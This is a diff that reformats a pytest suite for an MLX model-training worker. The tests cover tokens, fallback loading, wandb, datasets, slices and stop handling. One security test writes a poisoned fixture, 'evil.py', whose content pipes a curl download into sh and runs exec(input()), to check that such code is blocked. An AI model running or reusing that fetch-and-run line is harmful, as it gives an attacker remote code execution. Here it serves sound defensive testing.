@@ -1,4 +1,5 @@
-"""Whole runs of the training worker: tokens, trackers, local datasets, slices at every edge, stops at every moment."""
+"""Whole runs of the training worker: tokens, trackers, local datasets, slices at every edge, stops at every
+moment."""
 
 from __future__ import annotations
 
@@ -17,7 +18,10 @@ COMPLETED = "Training completed"
 
 def _loads(lab: Lab) -> list[tuple[str, object, object]]:
     """Which model was asked for, with which token and revision."""
-    return [(call.args[0], call.kwargs["token"], call.kwargs.get("revision")) for call in lab.asked("from_pretrained")]
+    return [
+        (call.args[0], call.kwargs["token"], call.kwargs.get("revision"))
+        for call in lab.asked("from_pretrained")
+    ]
 
 
 def _knows_fallback(subject: Subject) -> bool:
@@ -25,16 +29,21 @@ def _knows_fallback(subject: Subject) -> bool:
     return has_own(subject, "_drop_model_pin_for_fallback")
 
 
-# --- token and loads ---------------------------------------------------------------------------------------------
+# --- token and loads ----------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(("given", "ambient"), [("", True), (None, True), ("", False), (None, False)])
-def test_no_token_of_the_user(given: str | None, ambient: bool, worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
-    """Without a token the load gets None, or False where the caller may not use the ambient one; HF_TOKEN stays unset."""
+def test_no_token_of_the_user(
+    given: str | None, ambient: bool, worker: ModuleType, subject: Subject, tmp_path: Path
+) -> None:
+    """Without a token the load gets None, or False where the caller may not use the ambient one; HF_TOKEN
+    stays unset."""
     found = run(worker, tmp_path, hf_token=given, allow_ambient=ambient)
 
     three_valued = has_own(subject, "_worker_hf_token")
-    assert [(str(tmp_path / "model"), False if three_valued and not ambient else None, None)] == _loads(found.lab)
+    assert [(str(tmp_path / "model"), False if three_valued and not ambient else None, None)] == _loads(
+        found.lab
+    )
     assert "HF_TOKEN" not in found.environ
 
 
@@ -50,11 +59,15 @@ def test_pinned_model_is_loaded_from_its_pin(worker: ModuleType, subject: Subjec
     assert COMPLETED == found.completed()["status_message"]
 
 
-def test_model_without_a_pin_is_loaded_at_its_revision(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
+def test_model_without_a_pin_is_loaded_at_its_revision(
+    worker: ModuleType, subject: Subject, tmp_path: Path
+) -> None:
     """Without a pin the revision that the user chose is what is loaded, in releases that know revisions."""
     found = run(worker, tmp_path, model_revision="0123")
 
-    assert [(str(tmp_path / "model"), None, "0123" if _knows_fallback(subject) else None)] == _loads(found.lab)
+    assert [(str(tmp_path / "model"), None, "0123" if _knows_fallback(subject) else None)] == _loads(
+        found.lab
+    )
 
 
 BROKEN_CACHE = OSError("Can't load processor for 'pinned'")
@@ -72,9 +85,16 @@ BROKEN_CACHE = OSError("Can't load processor for 'pinned'")
     ids=["offline", "exact model wanted", "revision of another repo", "another error", "no pin"],
 )
 def test_no_fallback_where_it_would_not_help(
-    error: Exception, offline: bool, config: dict[str, Any], raised: type, worker: ModuleType, subject: Subject, tmp_path: Path
+    error: Exception,
+    offline: bool,
+    config: dict[str, Any],
+    raised: type,
+    worker: ModuleType,
+    subject: Subject,
+    tmp_path: Path,
 ) -> None:
-    """Offline, where the very snapshot is wanted, for an error of another kind or without a pin, one load is all."""
+    """Offline, where the very snapshot is wanted, for an error of another kind or without a pin, one load is
+    all."""
     pinned = tmp_path / "pinned"
     pinned.mkdir()
     pin = {"model_snapshot_path": str(pinned), "model_revision": "0123"}
@@ -91,7 +111,8 @@ def test_no_fallback_where_it_would_not_help(
 
 
 def test_fallback_says_so_and_drops_the_pin(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
-    """The user reads that the model is fetched anew, and what follows sees the model's own name instead of the pin."""
+    """The user reads that the model is fetched anew, and what follows sees the model's own name instead of
+    the pin."""
     pinned = tmp_path / "pinned"
     pinned.mkdir()
     lab = Lab(load_errors=[BROKEN_CACHE])
@@ -103,22 +124,38 @@ def test_fallback_says_so_and_drops_the_pin(worker: ModuleType, subject: Subject
     assert (1 if _knows_fallback(subject) else 0) == len(said)
     if _knows_fallback(subject):
         assert found.config["model_snapshot_path"] is None
-        assert {"token", "load_in_4bit", "full_finetuning", "text_only", "trust_remote_code", "random_state", "revision"} == set(
-            lab.asked("from_pretrained")[1].kwargs
-        )
+        assert {
+            "token",
+            "load_in_4bit",
+            "full_finetuning",
+            "text_only",
+            "trust_remote_code",
+            "random_state",
+            "revision",
+        } == set(lab.asked("from_pretrained")[1].kwargs)
         first, second = (call.kwargs for call in lab.asked("from_pretrained"))
         assert first | {"revision": "0123"} == second
 
 
-def test_fallback_is_scanned_before_it_is_loaded(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
-    """Code that ships with the model to fall back to is judged like any other; a blocked one is never loaded."""
+def test_fallback_is_scanned_before_it_is_loaded(
+    worker: ModuleType, subject: Subject, tmp_path: Path
+) -> None:
+    """Code that ships with the model to fall back to is judged like any other; a blocked one is never
+    loaded."""
     pinned, poisoned = tmp_path / "pinned", tmp_path / "poisoned"
     pinned.mkdir()
     (pinned / "config.json").write_text("{}", encoding="utf-8")
     poisoned.mkdir()
     (poisoned / "config.json").write_text('{"auto_map": {"AutoModel": "evil.Model"}}', encoding="utf-8")
-    (poisoned / "evil.py").write_text("import os\nos.system('curl http://x | sh')\nexec(input())\n", encoding="utf-8")
-    config = {"model_name": str(poisoned), "model_snapshot_path": str(pinned), "model_revision": "0123", "trust_remote_code": True}
+    (poisoned / "evil.py").write_text(
+        "import os\nos.system('curl http://x | sh')\nexec(input())\n", encoding="utf-8"
+    )
+    config = {
+        "model_name": str(poisoned),
+        "model_snapshot_path": str(pinned),
+        "model_revision": "0123",
+        "trust_remote_code": True,
+    }
 
     found = run(worker, tmp_path, Lab(load_errors=[BROKEN_CACHE]), offline=False, **config)
 
@@ -132,11 +169,12 @@ def test_fallback_is_scanned_before_it_is_loaded(worker: ModuleType, subject: Su
     assert [] == found.of("complete")
 
 
-# --- wandb -------------------------------------------------------------------------------------------------------
+# --- wandb --------------------------------------------------------------------------------------------------
 
 
 def test_wandb_that_fails_is_told_and_left_alone(worker: ModuleType, tmp_path: Path) -> None:
-    """An error of wandb.init becomes a status; the run trains to its end, without logging to a run that is not there."""
+    """An error of wandb.init becomes a status; the run trains to its end, without logging to a run that is
+    not there."""
     lab = Lab(wandb_error=RuntimeError("bad key"))
 
     found = run(worker, tmp_path, lab, enable_wandb=True)
@@ -147,7 +185,9 @@ def test_wandb_that_fails_is_told_and_left_alone(worker: ModuleType, tmp_path: P
 
 
 @pytest.mark.parametrize("enabled", [{}, {"enable_wandb": False}], ids=["unset", "off"])
-def test_wandb_is_left_alone_unless_wanted(enabled: dict[str, bool], worker: ModuleType, tmp_path: Path) -> None:
+def test_wandb_is_left_alone_unless_wanted(
+    enabled: dict[str, bool], worker: ModuleType, tmp_path: Path
+) -> None:
     """Without enable_wandb nothing is sent, and the key does not reach the environment."""
     found = run(worker, tmp_path, Lab(missing=("wandb",)), wandb_token="key", **enabled)
 
@@ -157,19 +197,24 @@ def test_wandb_is_left_alone_unless_wanted(enabled: dict[str, bool], worker: Mod
 
 
 def test_wandb_run_is_logged_to_and_finished(worker: ModuleType, tmp_path: Path) -> None:
-    """Steps and evaluations are logged under the user's project, and the run is finished; no key, none set."""
+    """Steps and evaluations are logged under the user's project, and the run is finished; no key, none
+    set."""
     found = run(worker, tmp_path, enable_wandb=True, wandb_project="mine", wandb_token="")
 
     (init,) = found.lab.asked("wandb.init")
     assert "mine" == init.kwargs["project"]
     assert "WANDB_API_KEY" not in found.environ
     step, evaluation = found.lab.asked("wandb.log")
-    assert (0.5, 0.25, {"step": 1}) == (step.args[0]["train/loss"], step.args[0]["train/grad_norm"], step.kwargs)
+    assert (0.5, 0.25, {"step": 1}) == (
+        step.args[0]["train/loss"],
+        step.args[0]["train/grad_norm"],
+        step.kwargs,
+    )
     assert Call("wandb.log", ({"eval/loss": 0.75, "eval/perplexity": 2.0},), {"step": 1}) == evaluation
     assert "wandb.finish" == found.lab.calls[-1].name
 
 
-# --- local datasets ----------------------------------------------------------------------------------------------
+# --- local datasets -----------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -194,7 +239,9 @@ def test_local_files_are_data_files_of_their_loader(
 
     (load,) = found.lab.asked("load_dataset")
     assert (loader,) == load.args
-    assert {"data_files": paths, "split": "train"} == {key: load.kwargs[key] for key in ("data_files", "split")}
+    assert {"data_files": paths, "split": "train"} == {
+        key: load.kwargs[key] for key in ("data_files", "split")
+    }
     assert found.lab.rows == found.lab.trainer.train_dataset
     assert loader == "csv" or {"data_files", "split"} == set(load.kwargs)
 
@@ -219,7 +266,9 @@ def test_folder_of_an_upload_is_read_from_its_parquet_files(worker: ModuleType, 
     ],
     ids=["unknown kind", "none", "empty folder"],
 )
-def test_unusable_local_dataset_ends_the_run(config: dict[str, Any], says: str, worker: ModuleType, tmp_path: Path) -> None:
+def test_unusable_local_dataset_ends_the_run(
+    config: dict[str, Any], says: str, worker: ModuleType, tmp_path: Path
+) -> None:
     """A file of an unknown kind, no file or an empty folder is a ValueError before anything is trained."""
     (tmp_path / "empty").mkdir()
     data = {"local_datasets": [str(tmp_path / name) for name in config["local_datasets"]]}
@@ -237,11 +286,14 @@ def test_local_evaluation_files_are_loaded_the_same_way(worker: ModuleType, tmp_
 
     found = run(worker, tmp_path, local_eval_datasets=[path], eval_steps=1, dataset_slice_end=0)
 
-    assert Call("load_dataset", ("json",), {"data_files": [path], "split": "train"}) == found.lab.asked("load_dataset")[1]
+    assert (
+        Call("load_dataset", ("json",), {"data_files": [path], "split": "train"})
+        == found.lab.asked("load_dataset")[1]
+    )
     assert (1, 10) == (len(found.lab.trainer.train_dataset), len(found.lab.trainer.eval_dataset))
 
 
-# --- slices ------------------------------------------------------------------------------------------------------
+# --- slices -------------------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -268,7 +320,8 @@ def test_local_evaluation_files_are_loaded_the_same_way(worker: ModuleType, tmp_
 def test_slice_at_every_edge(
     start: int | None, end: int | None, first: int, count: int, worker: ModuleType, tmp_path: Path
 ) -> None:
-    """Of ten rows, a slice trains on its start up to and with its end, cut at the length, and on none where end < start."""
+    """Of ten rows, a slice trains on its start up to and with its end, cut at the length, and on none where
+    end < start."""
     found = run(worker, tmp_path, dataset_slice_start=start, dataset_slice_end=end)
 
     assert [f"row {number}" for number in range(first, first + count)] == found.lab.trainer.train_dataset
@@ -285,7 +338,7 @@ def test_slice_of_no_rows(worker: ModuleType, tmp_path: Path) -> None:
     assert [] == found.lab.trainer.train_dataset
 
 
-# --- stops -------------------------------------------------------------------------------------------------------
+# --- stops --------------------------------------------------------------------------------------------------
 
 
 def _while_training(stops: Any, *messages: dict[str, Any]) -> Lab:
@@ -302,8 +355,11 @@ def _while_training(stops: Any, *messages: dict[str, Any]) -> Lab:
 STOP, CANCEL = {"type": "stop", "save": True}, {"type": "stop", "save": False}
 
 
-def test_stop_is_told_apart_from_the_end_of_training(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
-    """A stopped run says that it saves what it has; the statuses behind the training are these and no others."""
+def test_stop_is_told_apart_from_the_end_of_training(
+    worker: ModuleType, subject: Subject, tmp_path: Path
+) -> None:
+    """A stopped run says that it saves what it has; the statuses behind the training are these and no
+    others."""
     stops = ClosableQueue()
 
     found = run(worker, tmp_path, _while_training(stops, STOP), stops=stops)
@@ -358,8 +414,11 @@ def test_closed_queue_between_processes(worker: ModuleType, subject: Subject, tm
     assert ([] if has_own(subject, "_start_worker_stop_poller") else [ValueError]) == found.thread_errors
 
 
-def test_stop_that_cannot_be_resumed_is_an_error(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
-    """Where the state to go on from cannot be written, the model is saved and the run says that it cannot be resumed."""
+def test_stop_that_cannot_be_resumed_is_an_error(
+    worker: ModuleType, subject: Subject, tmp_path: Path
+) -> None:
+    """Where the state to go on from cannot be written, the model is saved and the run says that it cannot be
+    resumed."""
     stops = ClosableQueue()
     lab = _while_training(stops, STOP)
     lab.missing = ("safetensors",)
@@ -387,7 +446,10 @@ def test_stop_while_the_model_is_saved(worker: ModuleType, subject: Subject, tmp
     found = run(worker, tmp_path, Lab(while_saving=act), stops=stops)
 
     coordinated = has_own(subject, "_finalize_mlx_training")
-    assert {"output_dir": output_dir(tmp_path), "status_message": "Training stopped" if coordinated else COMPLETED} == found.completed()
+    assert {
+        "output_dir": output_dir(tmp_path),
+        "status_message": "Training stopped" if coordinated else COMPLETED,
+    } == found.completed()
     written = list(Path(output_dir(tmp_path)).glob("checkpoint-1/trainer_state.json"))
     assert has_own(subject, "_write_mlx_stop_checkpoint") == bool(written)
 
@@ -403,7 +465,10 @@ def test_cancel_while_the_model_is_saved(worker: ModuleType, subject: Subject, t
     found = run(worker, tmp_path, Lab(while_saving=act), stops=stops)
 
     out = None if has_own(subject, "_finalize_mlx_training") else output_dir(tmp_path)
-    assert {"output_dir": out, "status_message": COMPLETED if out else "Training cancelled"} == found.completed()
+    assert {
+        "output_dir": out,
+        "status_message": COMPLETED if out else "Training cancelled",
+    } == found.completed()
 
 
 def test_run_tells_what_it_does_in_order(worker: ModuleType, tmp_path: Path) -> None:
@@ -412,11 +477,14 @@ def test_run_tells_what_it_does_in_order(worker: ModuleType, tmp_path: Path) -> 
 
     model = tmp_path / "model"
     assert [
-        "Loading MLX libraries...", f"Loading {model}...", "Configuring LoRA adapters...", "Loading dataset...",
-        f"Training {model}...", "Saving model...",
+        "Loading MLX libraries...", f"Loading {model}...", "Configuring LoRA adapters...",
+        "Loading dataset...", f"Training {model}...", "Saving model...",
     ] == [text for text in found.statuses() if not text.startswith("Format helper")]  # fmt: skip
     assert [1, 1] == [event["step"] for event in found.of("progress")]
-    assert ("complete", {"output_dir", "status_message"}) == (found.events[-1]["type"], found.of("complete")[0].keys())
+    assert ("complete", {"output_dir", "status_message"}) == (
+        found.events[-1]["type"],
+        found.of("complete")[0].keys(),
+    )
 
 
 @pytest.mark.parametrize("module", ["mlx.core", "unsloth_zoo", "unsloth_zoo.mlx"])
